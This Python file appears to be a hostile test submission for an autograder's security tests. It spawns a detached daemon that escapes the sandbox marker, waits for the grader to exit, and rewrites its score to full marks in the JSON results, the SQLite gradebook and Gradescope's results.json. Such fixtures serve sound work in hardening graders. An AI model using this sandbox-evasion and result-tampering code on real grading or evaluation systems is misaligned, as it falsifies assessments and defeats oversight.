"""Hostile (after the grader): starts a daemon that double-forks, calls setsid and execs a
fresh interpreter with an empty environment (no sandbox marker), waits for the grader to
exit, then rewrites its own result in the --json file, the gradebook and Gradescope's
results.json (--results) to full marks, and lingers. Its argv[0] carries HOSTILE_MARKER so the test can find a survivor. It returns zeros."""

import os
import sys

from attack import grader_option, zeros_after

DAEMON = r"""
import json, os, sqlite3, sys, time
grader, json_path, db_path, gradescope = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
for _ in range(4500):  # up to 450 s: longer than the test's 400 s batch timeout, on any load
    try:
        os.kill(grader, 0)
    except OSError:
        break
    time.sleep(0.1)
try:
    with open(json_path) as handle:
        results = json.load(handle)
    for item in results:
        if item["student"] == "late_rewrite":
            item["score"] = item["max_score"]
    with open(json_path, "w") as handle:
        json.dump(results, handle)
except (OSError, ValueError):
    pass
try:
    with open(gradescope) as handle:
        results = json.load(handle)
    results["score"] = sum(test["max_score"] for test in results["tests"])
    with open(gradescope, "w") as handle:
        json.dump(results, handle)
except (OSError, ValueError, KeyError):
    pass
try:
    with sqlite3.connect(db_path, timeout=2) as db:
        db.execute("UPDATE results SET score = max_score WHERE student = 'late_rewrite'")
except sqlite3.Error:
    pass
time.sleep(300)  # and stay, to be found (the test kills it)
"""
_daemon_pid = None


def _grader_pid():
    """The grader: the *furthest* ancestor with --json or --results on its command line (a pool
    worker forked from it carries the same command line, and ends before the grader writes)."""
    from attack import ancestors, cmdline

    found = [pid for pid in ancestors() if {"--json", "--results"} & set(cmdline(pid))]
    return found[-1] if found else None


def _alive(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return b"HOSTILE_MARKER_late_rewrite" in handle.read()
    except OSError:
        return False


def _daemon():
    """Start the daemon, again at each call if the last one is gone."""
    global _daemon_pid
    if _daemon_pid is not None and _alive(_daemon_pid):
        return
    grader, paths = _grader_pid(), [grader_option(f) for f in ("--json", "--db", "--results")]
    argv = ["HOSTILE_MARKER_late_rewrite", "-c", DAEMON, str(grader or 0), *(p or "" for p in paths)]
    read, write = os.pipe()
    if os.fork() == 0:
        try:
            os.close(read)
            os.setsid()
            pid = os.fork()
            if pid == 0:
                devnull = os.open("/dev/null", os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execve(sys.executable, argv, {})
            os.write(write, str(pid).encode())
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read) as handle:
        text = handle.read()
    os.wait()
    _daemon_pid = int(text) if text.strip() else None


my_imfilter, create_hybrid_image = zeros_after(_daemon)
